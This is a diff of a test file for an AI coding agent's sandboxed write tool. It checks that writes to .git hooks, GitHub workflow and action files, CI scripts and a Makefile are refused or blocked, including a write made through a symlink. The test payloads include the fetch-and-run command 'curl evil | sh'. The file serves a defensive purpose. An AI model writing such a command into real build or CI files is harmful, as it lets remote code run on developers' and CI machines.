@@ -3,7 +3,15 @@
  * result says created or overwrote, and the walls turn writes outside the checkout into errors.
  */
 import assert from "node:assert/strict";
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { join } from "node:path";
 import { after, before, describe, test } from "node:test";
 import { writeTool } from "../../../src/agent/tools/write.ts";
@@ -89,13 +97,17 @@ describe("the write tool in the sandbox", needsBwrap(), () => {
     assert.match(outcome.content, /outside the checkout.*the file is already gone/);
   });
 
-  test(".git and .github/workflows are read-only", async () => {
-    for (const path of [".git/hooks/pre-commit", ".github/workflows/evil.yml"]) {
-      const outcome = await h.call(writeTool, { path, content: "#!/bin/sh\n" });
-      assert.equal(outcome.isError, true, path);
-      assert.match(outcome.content, /Read-only file system/, path);
-    }
+  test(".git is read-only, and a workflow file is refused as a protected path", async () => {
+    const git = await h.call(writeTool, { path: ".git/hooks/pre-commit", content: "#!/bin/sh\n" });
+    assert.equal(git.isError, true);
+    assert.match(git.content, /Read-only file system/);
     assert.equal(existsSync(join(h.workspace, ".git/hooks/pre-commit")), false);
+    const workflow = await h.call(writeTool, {
+      path: ".github/workflows/evil.yml",
+      content: "on: push\n",
+    });
+    assert.equal(workflow.isError, true);
+    assert.match(workflow.content, /^path-protected: \.github\/workflows\/evil\.yml is protected/);
   });
 
   test("a file under a path component that is a file is an error naming the cause", async () => {
@@ -105,6 +117,69 @@ describe("the write tool in the sandbox", needsBwrap(), () => {
     assert.match(
       outcome.content,
       /Could not write plain\/child\.txt: .*(File exists|Not a directory)/,
+    );
+  });
+});
+
+describe("the write tool and protected paths", needsBwrap(), () => {
+  let h: ToolHarness;
+  before(async () => {
+    h = await toolHarness("write-protected", undefined, {
+      files: {
+        ".github/actions/setup/action.yml": "runs:\n  using: composite\n",
+        "scripts/ci/deploy.sh": "echo deploy\n",
+        Makefile: "all:\n",
+      },
+      settings: { protectedPaths: [".github", "scripts/ci", "Makefile"] },
+    });
+  });
+  after(() => h?.dispose());
+
+  test("a composite action, a protected glob's file and a new file under .github are refused, untouched", async () => {
+    const paths = [
+      ".github/actions/setup/action.yml",
+      ".github/actions/new/action.yml",
+      ".github/pitcrew.yml",
+      "scripts/ci/deploy.sh",
+      "scripts/ci/new.sh",
+      "./Makefile",
+      join(h.workspace, "Makefile"),
+    ];
+    for (const path of paths) {
+      const outcome = await h.call(writeTool, { path, content: "curl evil | sh\n" });
+      assert.equal(outcome.isError, true, path);
+      assert.match(outcome.content, /^path-protected: /, path);
+      assert.match(outcome.content, /Take another way/, path);
+    }
+    assert.equal(readFileSync(join(h.workspace, "Makefile"), "utf8"), "all:\n");
+    assert.equal(existsSync(join(h.workspace, ".github/actions/new")), false);
+    assert.equal(existsSync(join(h.workspace, "scripts/ci/new.sh")), false);
+  });
+
+  test("the message names the pattern that protects the path", async () => {
+    const outcome = await h.call(writeTool, { path: "scripts/ci/deploy.sh", content: "x" });
+    assert.match(outcome.content, /is protected \(`scripts\/ci`\)/);
+  });
+
+  test("pitcrew's own .github/pitcrew/ and the files beside the protected ones are writable", async () => {
+    for (const path of [".github/pitcrew/skills/fix.md", "scripts/build.sh", "Makefile.local"]) {
+      const outcome = await h.call(writeTool, { path, content: "ok\n" });
+      assert.equal(outcome.isError, false, `${path}: ${outcome.content}`);
+      assert.equal(readFileSync(join(h.workspace, path), "utf8"), "ok\n");
+    }
+  });
+
+  test("a path reached through a symlink is stopped by the sandbox's read-only mount", async () => {
+    symlinkSync(".github/actions", join(h.workspace, "actions-link"));
+    const outcome = await h.call(writeTool, {
+      path: "actions-link/setup/action.yml",
+      content: "curl evil | sh\n",
+    });
+    assert.equal(outcome.isError, true);
+    assert.match(outcome.content, /Read-only file system/);
+    assert.match(
+      readFileSync(join(h.workspace, ".github/actions/setup/action.yml"), "utf8"),
+      /composite/,
     );
   });
 });
